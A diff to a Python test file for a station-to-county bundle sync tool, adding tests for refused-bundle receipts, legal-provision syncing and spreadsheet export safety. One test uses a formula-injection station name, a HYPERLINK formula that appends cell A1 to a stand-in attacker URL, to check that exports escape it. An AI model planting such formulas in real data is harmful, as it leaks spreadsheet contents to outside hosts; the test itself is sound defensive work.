@@ -201,12 +201,13 @@ def bundle_signer(path) -> str:
     return read_header(path.read_bytes())[0].signer
 
 
-def test_a_refused_bundles_reason_reaches_the_station(db, county_db, tmp_path, monkeypatch, capsys):
+def test_a_refused_bundles_reason_reaches_the_station(head_login, county_db, tmp_path, monkeypatch, capsys):
     """The station's own bundle, refused at the county (here a county not yet upgraded to the station's
     schema): the signed receipt says why, and the station keeps it."""
     from app.sync import validate
     from ui.cli import main
 
+    db = head_login
     register(db)
     link(db, county_db, tmp_path)
     bundle = export(db, tmp_path / "out")
@@ -221,3 +222,50 @@ def test_a_refused_bundles_reason_reaches_the_station(db, county_db, tmp_path, m
     assert sent.receipt == "refused" and "请先升级" in sent.receipt_note
     result = import_receipt(db.write, receipt, station_code=CODE)
     assert result.status == "refused" and result.note == report.message
+
+
+def test_a_station_name_never_becomes_a_formula_in_the_countys_spreadsheets(county_db, cli_env, tmp_path):
+    """The committee's name as its own bundle carries it, in `county stats --by station` as xlsx and CSV."""
+    from openpyxl import load_workbook
+
+    from app.services import accounts
+    from tests.conftest import CLI_PASSWORD, CLI_USER
+    from ui.cli import main
+
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    station = second_station(tmp_path, "330101007", name)
+    register(station, title="邻里纠纷")
+    link(station, county_db, tmp_path)
+    with county_db.write.begin() as s:
+        accounts.add_account(s, name=CLI_USER, role="reviewer", password=CLI_PASSWORD)
+    assert import_bundles(county_db.write, [export(station, tmp_path / "out").path])[0].status == "applied"
+    for fmt in ("xlsx", "csv"):
+        out = tmp_path / f"stats.{fmt}"
+        assert main(["county", "stats", "--period", "2026-11", "--by", "station", "--format", fmt, "--out", str(out),
+                     "--db", county_db.url]) == 0
+        if fmt == "xlsx":
+            cell = load_workbook(out).active["A2"]
+            assert cell.data_type == "s" and cell.value == "'" + name
+        else:
+            first = out.read_text(encoding="utf-8-sig").splitlines()[1]
+            assert first.startswith('"\'=HYPERLINK(') or first.startswith("'=HYPERLINK(")
+    station.engine.dispose()
+
+
+def test_a_provision_received_before_owners_goes_to_the_station_that_sends_it_again(db, county_db, tmp_path):
+    with db.write.begin() as s:
+        agreements.add_provision(s, law="中华人民共和国民法典", article="第二百八十八条", gist="相邻关系")
+    link(db, county_db, tmp_path)
+    bundle = export(db, tmp_path / "out")
+    assert import_bundles(county_db.write, [bundle.path])[0].status == "applied"
+    from sqlalchemy import text
+
+    with county_db.write.begin() as s:                        # as 0009 leaves what came before it
+        s.execute(text("UPDATE legal_provision SET station_id = NULL"))
+    [provision] = lines(open_bundle(county_db, bundle.path), "legal_provision")
+    with db.write.begin() as s:                               # as 0009 does at the station
+        s.execute(text("UPDATE legal_provision SET revision = revision + 1"))
+    [report] = import_bundles(county_db.write, [export(db, tmp_path / "out").path])
+    assert report.status == "applied" and report.outcome["updated"] == 1, report.message
+    stored = content(county_db.engine)["legal_provision"][provision["uid"]]
+    assert stored["station_id"] == provision["station_id"] and stored["revision"] == provision["revision"] + 1
